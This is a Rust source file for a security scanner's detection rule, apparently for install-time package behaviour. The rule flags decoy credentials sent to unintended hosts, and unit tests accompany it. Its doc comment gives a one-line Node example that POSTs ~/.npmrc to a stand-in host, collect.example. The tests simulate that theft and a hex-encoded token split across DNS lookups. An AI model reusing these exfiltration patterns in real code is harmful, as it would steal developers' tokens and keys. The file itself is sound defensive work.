//! **What.** The bytes of a planted secret reach a host that the secret is not meant for: in a request, in DNS names, over
//! a connection or in the arguments of a network program, as they are or under any common encoding or several of them.
//!
//! **Why.** Tokens and keys are what install-time thieves come for. Each secret in the made-up world exists once, so its
//! bytes in an outgoing payload can come from nowhere else, and each has an audience: a registry token may go to its
//! registry, a cloud key to its cloud.
//!
//! **Example.** `https.request('https://collect.example/', {method: 'POST'}).end(fs.readFileSync(home + '/.npmrc'))`
//!
//! **Benign look-alike.** A publishing tool sends the registry token to the registry. That is use, not theft, and no
//! finding.
//!
//! Since 0.1.0.

use super::{Confidence, Finding, Meta, Rule, Severity, View};
use crate::trace::{Event, Kind};
use std::collections::BTreeMap;

/// The rule.
#[derive(Debug)]
pub(super) struct Check;

impl Rule for Check {
    const META: Meta = Meta {
        id: "credential-exfiltration",
        title: "A credential is sent to a host that it is not meant for",
        severity: Severity::Critical,
        confidence: Confidence::High,
        technique: "T1041",
        phases: &[],
    };

    fn check(view: &View<'_>) -> Vec<Finding> {
        // One finding for each secret and host: a thief who tries three times stole once.
        let mut grouped: BTreeMap<(&str, &str), Vec<usize>> = BTreeMap::new();
        for (index, leak) in view
            .leaks()
            .iter()
            .enumerate()
            .filter(|(_, leak)| !leak.allowed)
        {
            if let Some(out) = view.outgoing().get(leak.outgoing) {
                grouped
                    .entry((&leak.decoy.name, &out.host))
                    .or_default()
                    .push(index);
            }
        }
        grouped
            .into_iter()
            .filter_map(|((name, host), indexes)| {
                let leak = view.leaks().get(*indexes.first()?)?;
                let out = view.outgoing().get(leak.outgoing)?;
                let disguise = match leak.encoding.as_str() {
                    "" => String::new(),
                    encoding => format!(", disguised by {encoding}"),
                };
                let detail = format!("{name} goes to {host} {}{disguise}", out.via.phrase());
                let sent = indexes
                    .iter()
                    .filter_map(|index| view.outgoing().get(view.leaks().get(*index)?.outgoing))
                    .flat_map(|out| out.events.iter().copied());
                let events: Vec<&Event> = sent
                    .chain(sources(view, leak.decoy, out.events.first()))
                    .collect();
                Some(Self::META.finding(view, &events, detail))
            })
            .collect()
    }
}

/// The reads that brought the secret in before it left.
fn sources<'t>(
    view: &View<'t>,
    decoy: &crate::trace::Decoy,
    before: Option<&&'t Event>,
) -> Vec<&'t Event> {
    let end = before.map_or(u32::MAX, |event| event.seq);
    let reads = view.of_any(&[Kind::FileRead, Kind::EnvRead, Kind::EnvList]);
    reads
        .into_iter()
        .filter(|event| event.seq < end)
        .filter(|event| match event.kind {
            Kind::FileRead => view
                .decoys_in(view.path(event))
                .any(|held| held.name == decoy.name),
            Kind::EnvRead => decoy.variables.contains(&event.subject),
            _ => !decoy.variables.is_empty(),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::{TOKEN, TraceBuilder};

    #[test]
    fn a_token_that_leaves_for_a_stranger_is_found_where_it_is_sent() {
        let mut builder = TraceBuilder::new();
        builder.event(Kind::FileRead, "/home/u/.npmrc");
        builder.at("install.js", 9);
        builder.payload(
            Kind::NetHttp,
            "POST https://collect.example/",
            TOKEN.as_bytes(),
        );
        let found = builder.check::<Check>();
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].at.as_ref().map(|at| at.line), Some(9));
        assert_eq!(found[0].evidence, [0, 1]);
    }

    #[test]
    fn encodings_do_not_hide_it() {
        let mut builder = TraceBuilder::new();
        let hex: String = TOKEN.bytes().map(|b| format!("{b:02x}")).collect();
        let (left, right) = hex.split_at(40);
        builder.event(Kind::NetDns, &format!("0.{left}.x.example"));
        builder.event(Kind::NetDns, &format!("1.{right}.x.example"));
        assert_eq!(builder.check::<Check>().len(), 1);
    }

    #[test]
    fn a_token_shown_to_its_registry_is_no_finding() {
        let mut builder = TraceBuilder::new();
        let seq = builder.event(Kind::NetHttp, "GET https://registry.test/-/whoami");
        builder.detail(seq, "header.authorization", &format!("Bearer {TOKEN}"));
        assert_eq!(builder.check::<Check>(), []);
    }
}
